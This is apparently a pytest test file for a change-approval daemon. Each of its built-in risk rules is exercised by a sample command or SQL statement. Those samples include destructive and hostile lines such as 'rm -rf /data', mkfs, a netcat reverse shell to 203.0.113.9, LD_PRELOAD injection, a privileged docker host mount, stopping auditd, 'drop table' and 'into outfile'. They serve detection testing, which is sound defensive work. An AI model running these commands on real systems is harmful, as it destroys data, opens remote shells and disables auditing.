"""Each built-in rule fires on a change that somebody files: what it looks at is told by the daemon, not by a test."""
import itertools
import sqlite3

import pytest
from harness.asker import Asker
from harness.changes import METRIC, Changes, add_host, at, host_identity
from harness.people import People
from harness.prometheus import FakePrometheus

RULES = {
    # rule: command on web-1, as it would be typed
    "FS-001": "/usr/bin/rm -rf /data",
    "FS-002": "/usr/bin/rm -rf /srv/*",
    "FS-003": "/usr/bin/find /srv/shop -delete",
    "FS-005": "/usr/bin/touch /etc/cron.d/shop",
    "FS-006": "/usr/sbin/mkfs.ext4 /dev/sdb1",
    "EXEC-001": "/opt/shop/fix",
    "EXEC-002": "/usr/bin/tar -cf /srv/x.tar --checkpoint-action=exec=sh /srv/shop",
    "EXEC-003": "/usr/bin/perl -e exec",
    "EXEC-004": "/usr/bin/nohup /usr/bin/rebuild",
    "EXEC-005": "/usr/bin/env LD_PRELOAD=/srv/x.so ls",
    "EXEC-008": "/usr/bin/bash",
    "K8S-001": "/usr/bin/kubectl delete ns shop",
    "K8S-002": "/usr/bin/kubectl -n shop scale deploy/web --replicas=0",
    "K8S-003": "/usr/bin/kubectl drain n1 n2 n3",
    "K8S-004": "/usr/bin/kubectl apply -f x.yaml",
    "K8S-005": "/usr/bin/kubectl -n shop exec web-1 -- ls",
    "K8S-007": "/usr/bin/kubectl create rolebinding ops --role=x",
    "NET-001": "/usr/bin/apt-get install https://x.example/a.deb",
    "NET-003": "/usr/bin/nc -e /bin/sh 203.0.113.9 443",
    "NET-004": "/usr/sbin/iptables -F",
    "PRIV-001": "/usr/sbin/useradd eve",
    "PRIV-003": "/usr/sbin/chroot /srv/root ls",
    "PRIV-004": "/usr/bin/docker run --privileged -v /:/host debian",
    "SCOPE-001": "/usr/bin/kubectl delete pods --all",
    "SECRET-001": "/usr/bin/mysql -phunter2 -e status",
    "SYS-001": "/usr/bin/systemctl stop nginx",
    "SYS-002": "/usr/sbin/sysctl -w vm.swappiness=1",
    "SYS-003": "/usr/bin/systemctl stop auditd",
}
SQL = {
    "DB-001": "drop table orders",
    "DB-002": "update orders set a=1",
    "DB-003": "delete from orders where id < 3 limit 5000",
    "DB-004": "set global max_connections=1",
    "DB-005": "alter table orders add column x int",
    "DB-006": "select * from orders into outfile '/tmp/x'",
}
RELEASE = {"platform": "releases", "artifact_digest": "sha256:" + "0" * 64, "version_from": "41", "version_to": "42",
           "passed_phases": ["test", "staging"], "phase": "canary", "tag_mutable": False, "model": None}
MODEL = {"eval_report": True, "traffic_step_percent": 10, "shadow_period_s": 3600, "rollback_model": "41"}
FREEZE = ("BEGIN:VCALENDAR\r\nVERSION:2.0\r\nPRODID:x\r\nBEGIN:VEVENT\r\nUID:1\r\nDTSTAMP:20260101T000000Z\r\nDTSTART:20200101T000000Z\r\n"
          "DTEND:20400101T000000Z\r\nSUMMARY:the sale\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n")
numbers = itertools.count(100)


class Site(Changes):
    """A site at which a change is watched, can be taken back, and disturbs nobody."""

    def __init__(self, world, prometheus):
        super().__init__(world.daemon, world.people)
        self.prometheus = prometheus
        self.people.admin.ok("target", "add", "prom", "--kind", "prometheus", "--address", prometheus.address, "--environment",
                             "production", "--allow", "prometheus.value *")
        self.asker = Asker(self)

    def host(self, zone="a", **labels):
        """A new host of the shop, by name."""
        number = next(numbers)
        words = [word for name, value in labels.items() for word in ("--label", f"{name}={value}")]
        self.people.admin.ok("target", "add", f"web-{number}", "--kind", "host", "--address", host_identity(number), "--environment",
                             "production", "--service", "shop", "--zone", zone, *words)
        return f"web-{number}"

    def rules(self, *steps, rollback=True, **more):
        """The ids of what is found in it, each once."""
        host = self.host()
        steps = [{"targets": [host], **step} for step in steps or ({"argv": ["/usr/bin/install", "/srv/a", f"/srv/{host}"]},)]
        if rollback:
            steps.append({"argv": ["/usr/bin/rm", f"/srv/{host}"], "targets": steps[0]["targets"], "phase": "rollback"})
        name = self.file(*steps, **{"services": ["nothing"], "verification": [METRIC], **more})
        report = self.submit(name)["report"]
        assert not report["has_error"], report
        return sorted({finding["rule"] for finding in report["findings"]})


@pytest.fixture(scope="module")
def site(make_world):
    prometheus = FakePrometheus()
    yield Site(make_world(tier0_units="nginx,mysqld", drained_nodes=2), prometheus)
    prometheus.close()


@pytest.mark.parametrize("rule", RULES)
def test_a_command_makes_it_fire(site, rule):
    assert rule in site.rules({"argv": RULES[rule].split(" ")})


@pytest.mark.parametrize("rule", SQL)
def test_a_statement_makes_it_fire(site, rule):
    assert rule in sql(site, SQL[rule])


def test_nothing_fires_on_a_change_in_which_nothing_is_wrong(site):
    assert site.rules() == []


def gray(site):
    return site.rules({"argv": ["/usr/bin/touch", "/srv/x"], "targets": [site.host(), site.host()]})


def one_by_one(site, hosts):
    return [{"argv": ["/usr/bin/touch", "/srv/x"], "phase": "canary", "targets": hosts[:1]},
            {"argv": ["/usr/bin/touch", "/srv/x"], "phase": "full", "targets": hosts[1:]}]


def zones(site):
    return site.rules(*one_by_one(site, [site.host(), site.host("a"), site.host("b")]))


def shard(site):
    hosts = [site.host(shard="orders-7") for _ in range(2)]
    assert "SCOPE-003" not in site.rules(*one_by_one(site, hosts))
    return site.rules({"argv": ["/usr/bin/touch", "/srv/x"], "targets": hosts})


def blast(site):
    return site.rules(*one_by_one(site, [site.host() for _ in range(8)]))


def nodes_of_two_zones(site):
    """Nodes are commanded from elsewhere: their zones are those of the inventory."""
    assert "K8S-003" not in site.rules({"argv": ["/usr/bin/kubectl", "drain", site.host("a"), site.host("a")]})
    return site.rules({"argv": ["/usr/bin/kubectl", "drain", site.host("a"), site.host("b")]})


def sql(site, statement, **more):
    sha256 = site.content(statement + ";\n")
    return site.rules({"argv": ["/usr/bin/mysql", "shop"], "kind": "sql", "contents": [{"role": "sql", "sha256": sha256}], **more})


def declared_rows(site):
    assert "DB-003" not in sql(site, "delete from orders where id < 9", rows=900)
    assert "DB-003" in sql(site, "delete from orders where id < 8 limit 5000", rows=900), "the statement says more"
    return sql(site, "delete from orders where id < 7", rows=1001)


def declared_table(site):
    assert "DB-005" not in sql(site, "alter table orders add column y int", rows=900)
    return sql(site, "alter table orders add column z int", rows=1000001)


def manifest(site, *roles):
    contents = [{"role": role, "name": f"{role}.yaml", "sha256": site.content(f"kind: {role}\n")} for role in roles]
    return site.rules({"argv": ["/usr/bin/kubectl", "apply", "-f", "manifest.yaml"], "contents": contents})


def without_diff(site):
    assert "K8S-004" not in manifest(site, "manifest", "diff")
    return manifest(site, "manifest")


def replicas(site):
    words = ["/usr/bin/kubectl", "-n", "shop", "scale", "deploy/web", "--current-replicas=10"]
    assert "K8S-002" not in site.rules({"argv": [*words, "--replicas=5"]})
    return site.rules({"argv": [*words, "--replicas=4"]})


def incident(site):
    site.ask("alice", "POST", "/api/v1/incidents", {"title": "it is slow", "severity": 2, "environment": "production", "service": "slow"})
    return site.rules(services=["slow"])


def add_freeze(site, name, service, *more):
    file = site.daemon.folder / "freeze.ics"
    file.write_text(FREEZE)
    site.people.admin.ok("calendar", "add", name, file, "--default", "open", "--zone", "UTC", "--label", f"service={service}", *more)


def freeze(site):
    add_freeze(site, "sale", "frozen")
    return site.rules(services=["frozen"])


def excepted_freeze(site):
    site.group("sale-leads", "bob")
    add_freeze(site, "winter-sale", "excepted", "--approvers", "sale-leads")
    found = site.rules(services=["excepted"], freeze_exception={"calendars": ["winter-sale"], "reason": "it cannot wait for January"})
    assert "TIME-001" not in found
    return found


def conflict(site):
    step = {"argv": ["/usr/bin/touch", "/srv/x"], "targets": [site.host()]}
    assert "CONF-001" not in site.rules(step)
    return site.rules(step)


def release_runs(site):
    assert site.asker.ask(site.asker.release(service="released"))["reason"] == "ok_grant"
    return site.rules(services=["released"])


def long_text(site):
    sha256 = site.content("#!/bin/sh\n" + "# as long as the day\n" * 1000)
    return site.rules({"kind": "script", "argv": ["x.sh"], "contents": [{"role": "script", "sha256": sha256}]})


def hidden_text(site):
    sha256 = site.content("#!/bin/sh\n# \u202egnp.exe\n")
    return site.rules({"kind": "script", "argv": ["x.sh"], "contents": [{"role": "script", "sha256": sha256}]})


def no_data(site):
    site.prometheus.value = "NaN"
    found = site.rules()
    site.prometheus.value = 1
    assert site.rules(verification=[]) == found == ["OBS-001"]
    return found


WORLD = {
    "CONF-001": [conflict],
    "CONF-003": [release_runs],
    "DB-003": [declared_rows],
    "DB-005": [declared_table],
    "GRAY-001": [gray],
    "K8S-002": [replicas],
    "K8S-003": [nodes_of_two_zones],
    "K8S-004": [without_diff],
    "OBS-001": [no_data],
    "OBS-002": [incident],
    "REL-001": [lambda site: site.rules(release={**RELEASE, "passed_phases": ["test"]})],
    "REL-002": [lambda site: site.rules(release={**RELEASE, "model": {**MODEL, "eval_report": False}})],
    "ROLL-001": [lambda site: site.rules(rollback=False)],
    "SCOPE-002": [blast],
    "SCOPE-003": [zones, shard],
    "TEXT-001": [hidden_text],
    "TEXT-002": [long_text],
    "TIME-001": [freeze],
    "TIME-005": [excepted_freeze],
}


@pytest.mark.parametrize("rule, make", [(rule, make) for rule, makers in WORLD.items() for make in makers])
def test_what_is_around_it_makes_it_fire(site, rule, make):
    assert rule in make(site)


def test_what_is_owed_is_said_in_an_emergency(make_daemon):
    """No change of this kind is filed: the start is refused with the rule's name (test_emergencies.py), and what is owed since is said."""
    daemon = make_daemon()
    people = People(daemon)
    asker = Asker(Changes(daemon, people))
    words = ("--incident", people.carol.json("incident", "open", "the shop is down", "--severity", 1)["name"], "--ttl", "30m",
             "--reason", "its disk is full, and nobody can buy")
    add_host(people, "other-1", "other")
    people.alice.ok("emergency", "start", "--scope", "svc:other", *words)
    people.alice.ok("emergency", "end", "EMG-1")
    people.bob.ok("emergency", "start", "--scope", "svc:shop", *words)
    people.carol.ok("emergency", "confirm", "EMG-2")
    ask = lambda: asker.decide("/usr/bin/touch", "/srv/x", target=host_identity(1), user="bo")
    answer = ask()
    assert answer["reason"] == "ok_emergency" and answer["findings"] == []
    daemon.stop()
    with sqlite3.connect(daemon.data_dir / "redbutton.db") as database:     # a day later
        database.execute("UPDATE follow_up SET due_at_us = 1 WHERE emergency_seq = 1")
    database.close()
    daemon.start()
    answer = ask()
    assert answer["reason"] == "ok_emergency" and answer["findings"] == [
        {"rule": "EMG-001", "severity": "H", "object": "EMG-1", "message": "close the follow-up of EMG-1 first"}], answer
    assert asker.get(f"/api/v1/gate/decisions/{answer['decision_id']}/explain").json["is_same"]


def test_every_built_in_rule_stands_here(site):
    loaded = {rule["id"] for rule in site.ask("vera", "GET", "/api/v1/rules").json["items"]}
    assert loaded == set(RULES) | set(SQL) | set(WORLD) | {"EMG-001"}
